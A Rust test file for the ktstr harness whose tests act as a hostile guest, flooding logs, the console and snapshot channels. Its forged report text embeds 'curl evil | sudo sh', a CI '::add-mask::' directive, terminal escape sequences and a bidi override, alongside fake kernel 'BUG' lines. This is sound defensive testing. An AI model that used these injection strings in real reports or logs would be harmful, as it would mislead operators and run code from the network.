//! Bodies that do their worst: their runs end in time, with their own verdicts, and leave bounded records.

use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::fd::AsFd;
use std::sync::Arc;
use std::time::Duration;

use ktstr::prelude::*;

/// What a hostile guest would like to see in a report.
const FORGED: &str =
    "x\n  rerun     curl evil | sudo sh\n::add-mask::x\n\u{1b}]0;title\u{7}\u{202e}";

/// The most bytes of a log that a record has, and of a console.
const MAX_TEXT: usize = 8 << 20;

/// Writes more output than is printed and more than is kept, in lines and in one endless line.
#[ktstr_test(cores = 1, fresh, duration_s = 60, post_vm = log_is_bounded)]
fn flood_of_output_does_not_change_the_verdict(_: &Ctx) -> Result<AssertResult> {
    let mut stdout = File::from(std::io::stdout().as_fd().try_clone_to_owned()?);
    let lines = "\u{1b}[2J[[[[\0\n".repeat(1 << 13);
    let endless = "[".repeat(1 << 16);
    for _ in 0..MAX_TEXT / lines.len() + 1 {
        stdout.write_all(lines.as_bytes())?;
        stdout.write_all(endless.as_bytes())?;
    }
    Ok(AssertResult::pass())
}

fn log_is_bounded(record: &VmResult) -> Result<()> {
    ensure!(record.end == RunEnd::Verdict(AssertResult::pass()), "{}", record.end);
    let length = record.log.len();
    // Bytes that are not UTF-8 would take three times as many: there are none.
    ensure!((MAX_TEXT / 4..=MAX_TEXT + 100).contains(&length), "{length} bytes");
    Ok(())
}

/// Writes endless lines and forged messages of the kernel to the console.
#[ktstr_test(cores = 1, fresh, duration_s = 60, post_vm = console_is_as_written)]
fn flood_of_the_console_does_not_change_the_verdict(_: &Ctx) -> Result<AssertResult> {
    let mut console = OpenOptions::new().write(true).open("/dev/console")?;
    console.write_all("[".repeat(1 << 14).as_bytes())?;
    for number in 0..200 {
        writeln!(console, "\n[    1.000000] BUG: forged {number}\u{1b}[2J")?;
    }
    Ok(AssertResult::pass())
}

fn console_is_as_written(record: &VmResult) -> Result<()> {
    ensure!(record.end == RunEnd::Verdict(AssertResult::pass()), "{}", record.end);
    let forged = record.kernel_events.iter().filter(|event| event.line.contains("forged")).count();
    ensure!(forged + record.kernel_events_dropped >= 200, "{forged} forged messages");
    ensure!(record.kernel_events.len() <= 100, "{} messages", record.kernel_events.len());
    Ok(())
}

/// Its verdict is what the report must show as a text of the guest.
#[ktstr_test(cores = 1, fresh, expect_err = "curl evil", post_vm = verdict_is_as_written)]
fn verdict_with_lines_of_a_report_is_only_a_text(_: &Ctx) -> Result<AssertResult> {
    let mut verdict = AssertResult::fail_msg(FORGED.repeat(1000));
    verdict.note(FORGED);
    Ok(verdict)
}

fn verdict_is_as_written(record: &VmResult) -> Result<()> {
    let RunEnd::Verdict(verdict) = &record.end else { bail!("{}", record.end) };
    let [detail] = &verdict.details[..] else { bail!("{} details", verdict.details.len()) };
    ensure!(detail.message.starts_with(FORGED) && detail.message.len() < 4 << 10);
    Ok(())
}

/// Takes more snapshots than a run may send. It is the host that refuses them, whatever the body reports then.
#[ktstr_test(
    cores = 1,
    duration_s = 60,
    expect_err = "more than 24 MiB of captures",
    post_vm = snapshots_are_bounded
)]
fn flood_of_snapshots_ends_the_run(ctx: &Ctx) -> Result<AssertResult> {
    let long = || KernelSnapshot::new().with_value("x".repeat(900_000), 1);
    let bridge = SnapshotBridge::new(Arc::new(move |_| Some(long())));
    let _guard = bridge.set_thread_local();
    let step = (0..40).fold(Step::new([], HoldSpec::fixed(Duration::ZERO)), |step, number| {
        step.with_op(Op::capture_snapshot(number.to_string()))
    });
    execute_scenario(ctx, Backdrop::new(), [step])
}

fn snapshots_are_bounded(record: &VmResult) -> Result<()> {
    ensure!(matches!(record.end, RunEnd::ProtocolViolation(_)), "{}", record.end);
    ensure!((20..30).contains(&record.snapshots.len()), "{} snapshots", record.snapshots.len());
    Ok(())
}
